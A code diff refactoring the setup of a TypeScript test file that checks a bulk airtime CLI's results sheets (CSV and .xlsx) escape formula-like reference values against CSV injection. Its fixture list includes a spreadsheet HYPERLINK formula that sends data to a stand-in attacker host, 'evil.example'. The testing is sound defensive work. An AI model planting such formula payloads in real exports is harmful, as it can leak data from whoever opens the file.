@@ -1,11 +1,12 @@
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { runAirtimeBulk } from '../../src/cli/airtime-bulk/run-airtime-bulk.js';
 import { readCsvLines } from '../../src/spreadsheets/csv.js';
 import { fundAirtime, msisdnFor, readXlsx } from '../airtime-bulk/bulk-files.js';
-import { accounts, type Harness, startHarness } from '../helpers/sandbox-harness.js';
-import { captureIo, temporaryDirectory } from '../reconciler-cli/harness.js';
+import { sandboxAndDirectoryPerTest } from '../airtime-bulk/sandbox-per-test.js';
+import { accounts } from '../helpers/sandbox-harness.js';
+import { captureIo } from '../reconciler-cli/harness.js';
 
 // An outside tester's pass (hunt7): the results sheet `pesakit airtime bulk --out` writes is
 // opened in a spreadsheet program. The `reference` column is copied from the input file, which
@@ -13,16 +14,7 @@ import { captureIo, temporaryDirectory } from '../reconciler-cli/harness.js';
 // with `=`, `+`, `-`, `@` (or a tab, which the reader trims away) was written as is, and Excel
 // runs such a CSV cell as a formula (CSV injection). Only the platform's `message` was made inert.
 
-let harness: Harness;
-let directory: { path: string; remove: () => void };
-beforeEach(async () => {
-  harness = await startHarness();
-  directory = temporaryDirectory();
-});
-afterEach(async () => {
-  await harness.close();
-  directory.remove();
-});
+const each = sandboxAndDirectoryPerTest();
 
 const references = [
   '=HYPERLINK("http://evil.example/?leak","click")',
@@ -42,21 +34,21 @@ function inputCsv(): string {
 }
 
 async function runTo(out: string): Promise<void> {
-  await fundAirtime(harness, 50_000);
-  const file = join(directory.path, 'staff.csv');
+  await fundAirtime(each.harness, 50_000);
+  const file = join(each.directory.path, 'staff.csv');
   writeFileSync(file, inputCsv());
   const io = captureIo({
     PESAKIT_AIRTIME_EMAIL: accounts.airtime.email,
     PESAKIT_AIRTIME_PASSWORD: accounts.airtime.password,
-    PESAKIT_BASE_URL: harness.url,
+    PESAKIT_BASE_URL: each.harness.url,
   });
   const code = await runAirtimeBulk(
     file,
     {
       environment: 'sandbox',
-      store: join(directory.path, 'payments.sqlite'),
+      store: join(each.directory.path, 'payments.sqlite'),
       storeFromArgv: true,
-      out: join(directory.path, out),
+      out: join(each.directory.path, out),
     },
     io,
   );
@@ -66,7 +58,10 @@ async function runTo(out: string): Promise<void> {
 describe('the results sheet keeps formula-like references as text', () => {
   it('in a CSV, every reference cell starts with a quote mark, the rest as written', async () => {
     await runTo('results.csv');
-    const { lines } = readCsvLines(readFileSync(join(directory.path, 'results.csv'), 'utf8'), 100);
+    const { lines } = readCsvLines(
+      readFileSync(join(each.directory.path, 'results.csv'), 'utf8'),
+      100,
+    );
     const column = lines[0]?.cells.indexOf('reference') ?? -1;
     expect(column).toBeGreaterThan(0);
     const written = lines.slice(1).map((line) => line.cells[column]);
@@ -76,7 +71,7 @@ describe('the results sheet keeps formula-like references as text', () => {
 
   it('in an .xlsx, the same', async () => {
     await runTo('results.xlsx');
-    const rows = await readXlsx(readFileSync(join(directory.path, 'results.xlsx')));
+    const rows = await readXlsx(readFileSync(join(each.directory.path, 'results.xlsx')));
     expect(rows.map((row) => row['reference'])).toEqual(
       references.map((reference) => `'${reference.trim()}`),
     );
